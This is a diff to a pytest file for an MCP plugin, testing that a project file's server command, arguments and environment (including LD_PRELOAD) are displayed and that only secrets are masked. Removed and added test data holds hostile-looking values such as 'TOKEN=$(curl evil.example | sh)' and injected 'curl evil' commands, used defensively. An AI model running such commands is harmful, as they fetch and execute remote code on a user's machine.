@@ -4,8 +4,6 @@ from __future__ import annotations
 
 from pathlib import Path
 
-import pytest
-
 from pflow_mcp_plugin.config.project_file import (
     ProjectReading,
     duplicate_servers,
@@ -27,15 +25,17 @@ def shown(**table):
     return "\n".join(server_lines("x", table))
 
 
-def test_everything_that_decides_what_is_started_is_shown():
-    lines = shown(
-        command="./run.sh", args=["--deep", "a b"], cwd="/else", env={"LD_PRELOAD": "./x.so"}, call_timeout=3
-    )
+def test_everything_that_decides_what_is_started_is_shown_and_only_secrets_are_masked():
+    args = ["--deep", "a b", "--key=abcDEF123", "--auth", "sh -c evil", "--token", "./evil.sh"]
+    env = {"LD_PRELOAD": "./x.so", "GIT_ASKPASS": "./ask.sh", "API_KEY": "abcDEF123"}
+    lines = shown(command="./run.sh", args=args, cwd="/else", env=env, call_timeout=3)
     assert lines.splitlines() == [
         "x (stdio)",
-        "  runs      ./run.sh --deep 'a b'",
+        "  runs      ./run.sh --deep 'a b' '--key=****' --auth 'sh -c evil' --token ./evil.sh",
         "  cwd       /else",
         "  env       LD_PRELOAD=./x.so",
+        "  env       GIT_ASKPASS=./ask.sh",
+        "  env       API_KEY=****",
         '  settings  {"call_timeout": 3}',
     ]
 
@@ -55,26 +55,6 @@ def test_everything_that_decides_what_is_reached_is_shown():
         '  auth      {"type": "bearer", "token": "****"}',
         "  receives  the values of A, from the environment or your settings",
     ]
-
-
-@pytest.mark.parametrize(
-    "args",
-    [
-        ["-c", "TOKEN=$(curl evil.example | sh)"],
-        ["--token", "./evil.sh"],
-        ["--auth", "sh -c 'curl evil'"],
-        ["-c", "password: ;curl evil"],
-    ],
-)
-def test_a_command_cannot_hide_behind_the_name_of_a_secret(args):
-    assert args[1] in shown(command="sh", args=args).replace("'\"'\"'", "'")
-
-
-def test_values_that_can_only_be_secrets_are_masked():
-    lines = shown(command="x", args=["--token", "abcDEF123", "--key=abcDEF123"], env={"API_KEY": "abcDEF123"})
-    assert "abcDEF123" not in lines
-    assert lines.count("****") == 3
-    assert "./ask.sh" in shown(command="x", env={"GIT_ASKPASS": "./ask.sh"})
 
 
 def test_what_is_not_visible_is_escaped():
@@ -97,19 +77,16 @@ def test_every_variable_is_named_wherever_the_table_refers_to_it():
 
 
 def test_a_server_of_the_users_own_wins_and_both_files_are_named():
-    reading = ProjectReading(
-        path=FILE, state="approved", tables={"x": {"command": "a"}, "y": {"command": "b"}}
-    )
+    tables = {"x": {"command": "a"}, "y": {"command": "b"}}
+    reading = ProjectReading(path=FILE, state="approved", tables=tables)
     (warning,) = told(reading, x={"command": "other"}, y={"command": "b", "call_timeout": 3})
     assert (warning.severity, warning.path) == ("warning", "mcpServers.x")
     assert warning.message == (f"Server x is in {OWN} and in {FILE}: the one in mcp-servers.toml is used")
 
 
 def test_a_server_that_is_used_without_approval_is_shown_in_full():
-    reading = ProjectReading(
-        path=FILE, state="asked", tables={"x": {"command": "a\u200b", "env": {"B": "${C}"}}}
-    )
-    (warning,) = told(reading)
+    tables = {"x": {"command": "a\u200b", "env": {"B": "${C}"}}}
+    (warning,) = told(ProjectReading(path=FILE, state="asked", tables=tables))
     assert "runs: 'a\\u200b'; env: B=${C}; receives: the values of C" in warning.message
     assert warning.suggestion == "To approve it: pflow mcp approve --project"
 
